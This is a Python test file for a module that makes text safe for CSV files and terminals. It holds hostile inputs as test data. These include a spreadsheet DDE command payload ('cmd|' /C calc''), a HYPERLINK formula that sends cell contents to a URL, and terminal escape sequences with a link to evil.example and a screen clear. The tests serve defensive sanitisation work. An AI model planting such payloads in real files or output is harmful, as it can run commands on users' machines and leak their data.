"""Spec and plan text made safe for CSV, Markdown and terminals (trnplan.safetext)."""

from __future__ import annotations

import csv
import io

import pytest

from trnplan.safetext import csv_cell, csv_row, csv_text, terminal_text

# --- CSV: formula injection and row splitting -------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("https://x/?"&A1,"Trainium3")', '\'=HYPERLINK("https://x/?"&A1,"Trainium3")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("-5", "'-5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("compute tray", "compute tray"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_cells_that_start_a_formula_are_neutralised(text: str, written: str) -> None:
    """OWASP's rule: a text cell leading with = + - @ TAB or CR is prefixed with a quote."""
    assert csv_cell(text) == written
    (row,) = csv.reader(io.StringIO(csv_row([text])))
    assert row == [written]


@pytest.mark.parametrize(("number", "written"), [(-5, "-5"), (-0.25, "-0.25"), (-1e300, "-1e+300"), (0, "0"),
                                                 (72.5, "72.5"), (None, "")])
def test_numbers_stay_numbers(number: float | None, written: str) -> None:
    """Only text is neutralised: a negative number is written as the number it is."""
    assert csv_cell(number) == written
    assert csv_row(["x", number]) == f"x,{written}\n"


def test_a_carriage_return_is_quoted_and_does_not_split_the_row() -> None:
    """The csv module quotes a CR only when it is in the line terminator: written unquoted, it ended the
    record in any reader that takes CR for a line end."""
    text = csv_text(["item", "usd"], [["tray\rsecond,row", 1], ["a\nb", -2], ['say "hi"', 3]])
    assert text == 'item,usd\n"tray\rsecond,row",1\n"a\nb",-2\n"say ""hi""",3\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["item", "usd"], ["tray\rsecond,row", "1"], ["a\nb", "-2"], ['say "hi"', "3"]]


# --- terminals ---------------------------------------------------------------------------------------


def test_terminal_text_shows_controls_as_codes() -> None:
    """ESC (OSC 8 links, clear screen, window titles), BEL, CR, TAB, DEL and the C1 CSI are written as
    escapes; line ends and all other text stay."""
    hostile = ("\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x1b[2J\x1b]0;owned\x07 "
               "\x9b31m\rx\x7f\tok\n")
    shown = terminal_text(hostile)
    assert shown == ("\\x1b]8;;https://evil.example\\x1b\\link\\x1b]8;;\\x1b\\ \\x1b[2J\\x1b]0;owned"
                     "\\x07 \\x9b31m\\rx\\x7f\\tok\n")
    assert terminal_text("Trainium3 (trn3), 1,024 chips — 中文 ✓") == "Trainium3 (trn3), 1,024 chips — 中文 ✓"
